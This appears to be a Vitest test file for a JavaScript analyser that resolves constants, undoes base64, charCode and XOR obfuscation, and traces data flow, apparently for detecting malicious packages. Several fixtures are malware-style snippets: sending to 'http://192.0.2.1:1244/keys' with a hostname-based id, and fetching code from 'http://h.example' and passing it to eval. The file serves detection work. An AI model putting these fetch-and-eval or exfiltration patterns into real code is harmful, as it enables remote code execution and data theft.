import { describe, expect, it } from 'vitest';
import { alternatives, expressionOf, template, wholeText } from '../value.ts';
import { javascriptProgram } from './program.ts';

/** Arguments of the calls of `name`, as people would write them. */
function argumentsOf(code: string, name: string): string[] {
  const program = javascriptProgram(code);
  return (program?.calls ?? [])
    .filter((call) => call.name === name)
    .map((call) => call.value.args.map(expressionOf).join(', '));
}

const templates = (code: string, name: string): string[] =>
  (javascriptProgram(code)?.calls ?? [])
    .filter((call) => call.name === name)
    .flatMap((call) =>
      call.value.args.flatMap((arg) => alternatives(arg).map((one) => wholeText(one) ?? template(one))),
    );

describe('javascriptProgram', () => {
  it('follows constants through names, members, templates and functions', () => {
    expect(
      templates(
        'const p = 1244; const c = { h: "192.0.2.1" }; const u = () => `http://${c.h}:${p}`; send(u() + "/keys");',
        'send',
      ),
    ).toEqual(['http://192.0.2.1:1244/keys']);
    expect(
      templates('class A { constructor() { this.x = "a"; } y = "b"; z() { send(this.x + this.y); } }', 'send'),
    ).toEqual(['ab']);
    expect(templates('import { hostname as h } from "node:os"; send(`id_${h()}`);', 'send')).toEqual(['id_{hostname}']);
  });

  it('undoes what constants hide', () => {
    expect(templates('send(Buffer.from("aGVsbG8=", "base64").toString())', 'send')).toEqual(['hello']);
    expect(
      templates(
        'const d = (t) => { const n = 4; return atob(t.slice(n) + t.slice(0, n)); }; send(d("bG8=aGVs"));',
        'send',
      ),
    ).toEqual(['hello']);
    expect(templates('send([104, 105].map((c) => String.fromCharCode(c)).join(""))', 'send')).toEqual(['hi']);
    expect(
      templates('send(["a", "b"].reverse().join("/"), "x".concat("y"), String.fromCharCode(65, 66))', 'send'),
    ).toEqual(['b/a', 'xy', 'AB']);
  });

  it('reads a call once for each caller of its function', () => {
    expect(
      templates('function go(path, id) { send("http://h.example/" + path + id); } go("a", 1); go("b", 2);', 'send'),
    ).toEqual(['http://h.example/a1', 'http://h.example/b2']);
  });

  it('keeps what a place can be on each system', () => {
    expect(templates('let p; if (w) p = "win"; else if (m) p = "mac"; send(p)', 'send').sort()).toEqual(['mac', 'win']);
  });

  it('knows which answer reaches code, through promises, callbacks and failures', () => {
    const asked = (code: string): boolean =>
      argumentsOf(code, 'eval').some((text) => text.includes('"http://h.example"'));
    expect(asked('async function f() { const r = await axios.get("http://h.example"); eval(r.data.cookie); }')).toBe(
      true,
    );
    expect(asked('fetch("http://h.example").then((r) => r.text()).then((t) => eval(t))')).toBe(true);
    expect(asked('request("http://h.example", (e, r, body) => { eval(body); })')).toBe(true);
    expect(asked('axios.get("http://h.example").catch((e) => eval(e.response.data))')).toBe(true);
    expect(asked('try { await axios.get("http://h.example"); } catch (e) { eval(e.response.data); }')).toBe(true);
    expect(
      asked(
        'https.get("http://h.example", (r) => { let s = ""; r.on("data", (c) => (s += c)); r.on("end", () => eval(s)); })',
      ),
    ).toBe(true);
    expect(asked('axios.get("http://h.example"); eval("1")')).toBe(false);
  });

  it('tells keys of XOR loops', () => {
    const keys = (code: string): string[] => (javascriptProgram(code)?.xors ?? []).map(({ key }) => expressionOf(key));
    expect(
      keys(
        'const k = "abc"; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length));',
      ),
    ).toEqual(['"abc"']);
    expect(keys('const key = [1, 2]; const x = (b) => b.map((c, i) => c ^ key[i % key.length]);')).toEqual(['[1, 2]']);
    expect(keys('const y = a ^ b; const z = flags ^ 7;')).toEqual([]);
  });

  it('says what hangs on a comparison', () => {
    const roles = (code: string): string[] =>
      (javascriptProgram(code)?.comparisons ?? []).map(({ role, operator }) => `${operator} ${role}`);
    expect(roles('if (process.env.A !== "x") process.exit(1);')).toEqual(['!== stops']);
    expect(roles('if (!process.env.A) return;')).toEqual(['missing stops']);
    expect(roles('switch (a.b) { case "x": }')).toEqual(['=== case']);
  });

  it('gives something for whatever does not parse, and nothing for what is too deep', () => {
    expect(javascriptProgram('const a = "x"; function (')?.texts.map(({ text }) => text)).toContain('x');
    expect(javascriptProgram(`${'('.repeat(5_000)}${')'.repeat(5_000)}`)).toBeNull();
  });

  it('bears long sums, cycles and recursion', () => {
    const sum = Array.from({ length: 10_000 }, () => '"a"').join('+');
    expect(templates(`send(${sum})`, 'send')[0]).toHaveLength(10_000);
    expect(
      templates('var a = b; var b = a; send(a); function f(n) { return f(n) + "x"; } send(f(1));', 'send'),
    ).toHaveLength(2);
    expect(templates('const o = {}; o.self = o; send(o.self.self.name)', 'send')).toHaveLength(1);
  });

  it('is not misled by names of the prototype', () => {
    expect(templates('const o = { a: 1 }; send(o.constructor, o.__proto__, o["toString"])', 'send')).toHaveLength(3);
  });
});
